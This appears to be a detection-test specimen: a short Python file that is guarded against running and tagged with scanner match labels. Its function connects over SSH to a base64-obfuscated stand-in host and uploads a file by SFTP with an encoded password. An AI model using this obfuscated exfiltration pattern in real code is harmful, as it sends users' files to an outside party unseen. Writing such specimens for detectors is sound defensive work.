raise SystemExit("specimen: not to be run")
import base64
import paramiko

def leave(path):
    line = paramiko.SSHClient()
    line.connect(base64.b64decode("c2Z0cC5leGFtcGxlLmNvbQ==").decode(), username="box", password=base64.b64decode("aHVudGVyMmh1bnRlcjI=").decode())  # match: hidden-address
    line.open_sftp().put(path, "a")  # match: ftp-upload
